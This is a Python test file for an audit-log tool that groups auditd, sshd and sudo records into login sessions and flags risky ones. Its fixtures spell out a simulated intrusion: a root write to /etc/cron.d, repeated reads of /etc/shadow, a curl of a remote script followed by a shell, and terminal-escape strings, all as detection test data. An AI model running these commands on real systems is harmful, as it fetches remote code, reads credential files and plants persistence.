@@ -1,0 +1,314 @@
+"""Sessions from events: the grouping, the tree, what is folded, the bounds and the table.
+
+The records are written as the kernel, auditd, sshd, sudo and PAM write them
+(tests/support/audit_records.py), stored as the log server stores them, then read and
+classified as the report reads them.  The same grouping on a real login's records is in
+tests/system/test_sessions.py.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from ansible_collections.whotouched.server_audit.plugins.module_utils._events.assembler import (
+    iter_events,
+)
+from ansible_collections.whotouched.server_audit.plugins.module_utils._events.report import (
+    EventFilter,
+)
+from ansible_collections.whotouched.server_audit.plugins.module_utils._events.risk import (
+    classify,
+    load_risk_rules,
+)
+from ansible_collections.whotouched.server_audit.plugins.module_utils._events.sessions import (
+    SessionBook,
+    format_sessions,
+    group_sessions,
+    row_text,
+    session_rows,
+)
+from tests.support.audit_records import (
+    evtsys,
+    exec_records,
+    file_records,
+    login_records,
+    stored,
+    user_record,
+)
+
+RULES = load_risk_rules()
+UNSET = 4294967295
+
+
+class Records:
+    """Records of one sender, with serials and times that go up as a session does."""
+
+    def __init__(self, start=1700000000):
+        self.serial = 100
+        self.start = start
+        self.lines = []
+
+    def _next(self):
+        self.serial += 1
+        return self.serial, "%d.%03d" % (self.start + self.serial // 10, self.serial % 10 * 100)
+
+    def exec(self, argv, pid, ppid, **options):
+        serial, epoch = self._next()
+        self.lines += exec_records(argv, serial=serial, epoch=epoch, pid=pid, ppid=ppid, **options)
+
+    def user(self, record_type, pid, **options):
+        serial, epoch = self._next()
+        self.lines.append(user_record(record_type, pid, serial, epoch=epoch, **options))
+
+    def login(self, pid, **options):
+        serial, epoch = self._next()
+        self.lines += login_records(pid, serial, epoch=epoch, **options)
+
+    def write(self, path, pid, ppid, **options):
+        serial, epoch = self._next()
+        self.lines += file_records(path, serial=serial, epoch=epoch, pid=pid, ppid=ppid, **options)
+
+    def events(self, host="web01", address="192.0.2.10"):
+        return [classify(event, RULES)
+                for event in iter_events(stored(self.lines, host=host, address=address))]
+
+
+def ssh_login(records, pid=500, ses=3, addr="203.0.113.7"):
+    """sshd's records of a login: before the session, the login, its start and terminal."""
+    sshd = {"exe": "/usr/sbin/sshd", "addr": addr, "terminal": "ssh", "acct": "alice"}
+    records.user("USER_ACCT", pid, auid=UNSET, ses=UNSET, login_name="unset",
+                 op="PAM:accounting", **sshd)
+    records.user("CRED_ACQ", pid, auid=UNSET, ses=UNSET, login_name="unset",
+                 op="PAM:setcred", **sshd)
+    records.login(pid, ses=ses)
+    records.user("USER_START", pid, ses=ses, **sshd)
+    records.user("USER_LOGIN", pid, ses=ses, **dict(sshd, terminal="/dev/pts/1"), op="login")
+
+
+def mallory_session():
+    """A login with sudo from its own terminal (use_pty), refused reads, a watched file
+    written, a pipeline, and the logout."""
+    records = Records()
+    ssh_login(records)
+    alice = {"uid": 1000, "euid": 1000, "user_name": "alice"}
+    records.exec(["-bash"], 600, 500, exe="/usr/bin/bash", **alice)
+    records.exec(["sudo", "tee", "/etc/cron.d/update"], 601, 600, uid=1000, euid=0)
+    for record_type in ("USER_ACCT", "USER_CMD", "CRED_REFR", "USER_START"):
+        records.user(record_type, 601, acct="root")
+    # sudo's terminal process (602) is never executed: tee's parent is unknown
+    records.exec(["tee", "/etc/cron.d/update"], 603, 602)
+    records.write("/etc/cron.d/update", 603, 602, key="crontab", argv=["tee", "/etc/cron.d/update"],
+                  exe="/usr/bin/tee", syscall=257, nametype="CREATE")
+    records.user("USER_END", 601, acct="root")
+    records.user("CRED_DISP", 601, acct="root")
+    for pid in (610, 611, 612):
+        records.exec(["cat", "/etc/shadow"], pid, 600, **alice)
+        records.write("/etc/shadow", pid, 600, key="denied", argv=["cat", "/etc/shadow"],
+                      exe="/usr/bin/cat")
+        records.lines[-5] = records.lines[-5].replace("success=yes exit=3", "success=no exit=-13")
+    records.exec(["curl", "-fsS", "http://203.0.113.9/x.sh"], 620, 600, **alice)
+    records.exec(["sh"], 621, 600, exe="/usr/bin/dash", **alice)
+    records.exec(["id"], 622, 621, **alice)
+    records.user("USER_END", 500, exe="/usr/sbin/sshd", addr="203.0.113.7", terminal="ssh",
+                 op="PAM:session_close")
+    return records
+
+
+def lines_of(view):
+    return [(row["depth"], row["level"], row_text(row)) for row in session_rows(view)]
+
+
+def test_a_login_session_as_a_tree_with_what_is_folded():
+    sessions, counts = group_sessions(mallory_session().events())
+    assert counts["sessions"] == 1 and counts["truncated"] is False
+    session = sessions[0]
+    assert {name: session[name] for name in (
+        "kind", "host", "address", "session", "login_user", "remote_address", "terminal",
+        "service", "open", "level")} == {
+        "kind": "login", "host": "web01", "address": "192.0.2.10", "session": 3,
+        "login_user": "alice", "remote_address": "203.0.113.7", "terminal": "/dev/pts/1",
+        "service": "sshd", "open": False, "level": "high"}
+    assert lines_of(session) == [
+        (0, "info", "-bash"),
+        (1, "low", "sudo tee /etc/cron.d/update (as root)"),
+        (2, "high", "tee /etc/cron.d/update -> /etc/cron.d/update (create, crontab, high)"),
+        (1, "medium", "cat /etc/shadow x3"),
+        (2, "medium", "openat /etc/shadow x3 [failed]"),
+        (1, "info", "curl -fsS http://203.0.113.9/x.sh"),
+        (1, "info", "sh"),
+        (2, "info", "id"),
+    ]
+    # sshd's records before the session (no ses yet) are the login's, not the sender's
+    assert [event["record_types"] for event in session["login"]] == [
+        ["USER_ACCT"], ["CRED_ACQ"], ["LOGIN"], ["USER_START"], ["USER_LOGIN"],
+        ["USER_END"]]
+    sudo = session["tree"][0]["children"][0]
+    assert [event["record_types"][0] for event in sudo["pam"]] == [
+        "USER_ACCT", "USER_CMD", "CRED_REFR", "USER_START", "USER_END", "CRED_DISP"]
+    cat = session["tree"][0]["children"][1]
+    assert len(cat["repeated"]) == 2 and all(node["calls"] for node in cat["repeated"])
+    assert session["counts"] == {"events": 25, "commands": 9, "files": 1, "failed": 3,
+                                 "matched": 25}
+
+
+def test_the_table_for_people():
+    sessions, _counts = group_sessions(mallory_session().events())
+    assert format_sessions(sessions) == [
+        "== [HIGH] alice on web01 (192.0.2.10), session 3",
+        "   from 203.0.113.7 via sshd on /dev/pts/1, 2023-11-14 22:13:30 to 22:13:32 UTC (closed)",
+        "   9 commands, 1 file written, 3 failed; why: scheduled jobs changed; account database"
+        " changed; c...",
+        "   22:13:30 info     -bash",
+        "   22:13:30 low        sudo tee /etc/cron.d/update (as root)",
+        "   22:13:31 high         tee /etc/cron.d/update -> /etc/cron.d/update (create, crontab, "
+        "high)",
+        "   22:13:31 medium     cat /etc/shadow x3",
+        "   22:13:31 medium       openat /etc/shadow x3 [failed]",
+        "   22:13:32 info       curl -fsS http://203.0.113.9/x.sh",
+        "   22:13:32 info       sh",
+        "   22:13:32 info         id",
+    ]
+
+
+def test_hostile_text_is_escaped_and_lines_stay_within_the_width():
+    records = Records()
+    records.exec(["printf", "\x1b[2J\u202eevil\nnext", "x" * 300], 700, 600, ses=5,
+                 login_name="mallory")
+    sessions, _counts = group_sessions(records.events(host="web\x1b]0;owned\x07"))
+    table = format_sessions(sessions, width=80)
+    assert table[0] == "== [INFO] mallory on web\\x1b]0;owned\\x07 (192.0.2.10), session 5"
+    assert table[-1].startswith("   22:13:30 info     printf \\x1b[2J\\u202eevil\\x0anext xxx")
+    assert all(len(line) <= 80 for line in table)
+    assert not any(character in "".join(table) for character in "\x1b\u202e\n\x07")
+
+
+def test_sudo_without_a_terminal_of_its_own_and_an_unknown_parent():
+    records = Records()
+    records.exec(["sudo", "id"], 701, 600, uid=1000, euid=0)
+    records.exec(["id"], 702, 701)  # sudo ran it itself (no use_pty)
+    records.exec(["make"], 703, 650)  # its shell was never recorded: a root of its own
+    records.exec(["cc", "-c", "x.c"], 704, 703)
+    records.exec(["as"], 704, 703)  # the same process executing another program
+    sessions, _counts = group_sessions(records.events())
+    assert [(depth, text) for depth, _level, text in lines_of(sessions[0])] == [
+        (0, "sudo id (as root)"), (1, "id"), (0, "make (as root)"), (1, "cc -c x.c"),
+        (2, "as")]
+
+
+def test_a_services_shells_without_a_login_are_one_story():
+    records = Records()
+    web = {"uid": 33, "euid": 33, "user_name": "www-data", "auid": UNSET, "login_name": "unset",
+           "ses": UNSET}
+    # a web server started before the rules were loaded (812): its shells are one story
+    records.exec(["sh", "-c", "id; uname -a"], 900, 812, **web)
+    records.exec(["id"], 901, 900, **web)
+    records.exec(["sh", "-c", "cat /etc/passwd"], 905, 812, **web)
+    # a service started by init: its own story
+    records.exec(["/usr/bin/python3", "app.py"], 950, 1, **web)
+    records.exec(["sh", "-c", "whoami"], 951, 950, **web)
+    sessions, _counts = group_sessions(records.events())
+    assert [(view["kind"], view["root_pid"], view["parent_pid"], view["program"], view["users"],
+             [text for _depth, _level, text in lines_of(view)]) for view in sessions] == [
+        ("processes", 812, 812, "sh", ["www-data"],
+         ["sh -c id; uname -a", "id", "sh -c cat /etc/passwd"]),
+        ("processes", 950, None, "python3", ["www-data"],
+         ["/usr/bin/python3 app.py", "sh -c whoami"])]
+    assert [view["level"] for view in sessions] == ["high", "high"]
+    assert format_sessions(sessions)[0] == (
+        "== [HIGH] www-data on web01 (192.0.2.10), no login session: sh (children of pid 812, "
+        "not recorded)")
+
+
+def test_what_belongs_to_no_process_goes_with_its_sender():
+    records = Records()
+    for _attempt in range(3):
+        records.user("USER_AUTH", 990, auid=UNSET, ses=UNSET, login_name="unset", acct="root",
+                     exe="/usr/sbin/sshd", addr="198.51.100.4", terminal="ssh",
+                     op="PAM:authentication", res="failed")
+    records.lines.append(
+        "type=USER msg=audit(1700000050.000:300): pid=726 uid=0 auid=4294967295 ses=4294967295 "
+        "subj=unconfined msg='op=whotouched-audit-health lost=12 lost_total=52 "
+        "since=1700000000.000 backlog=0 backlog_limit=8192 backlog_wait_time=60000 "
+        "logging_suspended=no plugin_overflow=no res=success'")
+    events = records.events()
+    events += [classify(event, RULES) for event in iter_events([evtsys(
+        4625, "An account failed to log on. Subject: Account Name: - Account For Which Logon "
+        "Failed: Account Name: admin Source Network Address: 198.51.100.4", success=False)])]
+    sessions, _counts = group_sessions(events)
+    assert [(view["kind"], view["host"], view["session"]) for view in sessions] == [
+        ("host", "web01", None), ("host", "DC01", None)]
+    assert [text for _depth, _level, text in lines_of(sessions[0])] == [
+        "USER_AUTH /usr/sbin/sshd acct=root x3 [failed]",
+        "lost 12 audit events between 2023-11-14 22:13:20 and 2023-11-14 22:14:10 (kernel "
+        "backlog full or rate limit)"]
+    assert sessions[0]["level"] == "high" and sessions[0]["rules"] == ["events-lost"]
+    assert lines_of(sessions[1]) == [
+        (0, "low", "event 4625 target=admin from=198.51.100.4 [failed]")]
+
+
+def test_a_heartbeat_is_no_event_of_a_session():
+    book = SessionBook()
+    assert book.add({"kind": "health", "host": "web01"}) is None and len(book) == 0
+
+
+def test_the_login_record_begins_a_session_even_when_it_comes_late():
+    records = Records()
+    records.login(600, ses=7)
+    records.exec(["id"], 700, 600, ses=7)
+    events = records.events()
+    # Without an EOE of its own (some kernels), it is given out after its session's events.
+    events.sort(key=lambda event: "LOGIN" in event["record_types"])
+    assert events[-1]["record_types"][0] == "LOGIN"
+    assert len(group_sessions(events)[0]) == 1
+    # The same number after the sender's reboot is another session.
+    later = Records(start=1700090000)
+    later.login(600, ses=7)
+    later.exec(["id"], 701, 600, ses=7)
+    sessions, _counts = group_sessions(events + later.events())
+    assert [view["session"] for view in sessions] == [7, 7]
+    assert sessions[0]["id"] != sessions[1]["id"]
+
+
+def test_filters_select_whole_sessions_and_limit_keeps_the_most_recent():
+    records = mallory_session()
+    records.exec(["uptime"], 801, 800, ses=9, login_name="bob", auid=1001)
+    records.exec(["ls"], 802, 800, ses=10, login_name="carol", auid=1002)
+    events = records.events()
+    sessions, counts = group_sessions(events, EventFilter(search="cron.d").keeps)
+    assert [view["login_user"] for view in sessions] == ["alice"]
+    assert counts["matched"] == 3 and sessions[0]["counts"]["events"] == 25
+    sessions, counts = group_sessions(events, EventFilter(min_level="info").keeps, limit=2)
+    assert [view["login_user"] for view in sessions] == ["bob", "carol"]
+    assert counts["truncated"] is True and counts["sessions"] == 3
+
+
+def test_memory_stays_bounded_and_what_is_let_go_is_counted():
+    records = Records()
+    for number in range(5):
+        records.exec(["true"], 700 + number, 600, ses=10 + number)
+    events = records.events()
+    book = SessionBook(max_sessions=3, max_events=1000, max_session_events=2)
+    matched = {12}
+    for event in events:
+        book.add(event, event["session"] in matched)
+    # the least recently active without a match went first; the matched one stays
+    assert sorted(session.number for session in book.sessions(matched_only=False)) == [12, 13, 14]
+    assert book.counts["sessions_let_go"] == 2 and book.counts["matched_sessions_let_go"] == 0
+    for _more in range(3):
+        book.add(dict(events[4]), True)
+    assert book.get(book.sessions()[-1].id).left_out == 2
+    assert book.counts["events_left_out"] == 2
+    small = SessionBook(max_sessions=10, max_events=2)
+    for event in events[:3]:
+        small.add(event, True)
+    assert len(small) == 2 and small.counts["matched_sessions_let_go"] == 1
+
+
+@pytest.mark.parametrize("options, message", [
+    ({"max_sessions": 0}, "max_sessions must be a whole number of at least 1, got 0"),
+    ({"max_events": "many"}, "max_events must be a whole number of at least 1, got 'many'"),
+    ({"max_session_events": True}, "max_session_events must be a whole number of at least 1"),
+])
+def test_bad_bounds_are_named(options, message):
+    with pytest.raises(ValueError, match=message):
+        SessionBook(**options)
